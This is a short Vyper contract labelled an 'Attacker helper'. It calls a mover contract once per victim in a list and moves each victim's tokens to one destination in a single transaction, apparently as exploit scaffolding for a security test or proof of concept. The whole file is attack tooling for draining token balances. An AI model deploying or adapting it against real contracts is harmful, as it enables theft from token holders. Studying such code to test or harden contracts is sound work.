# pragma version 0.4.3
"""@title Attacker helper: call a mover for many victims in one transaction."""

interface Mover:
    def move(token: address, src: address, dst: address, amount: uint256): nonpayable


@external
def pull_many(mover: address, token: address, victims: DynArray[address, 16], amounts: DynArray[uint256, 16],
              dst: address):
    for i: uint256 in range(len(victims), bound=16):
        extcall Mover(mover).move(token, victims[i], dst, amounts[i])
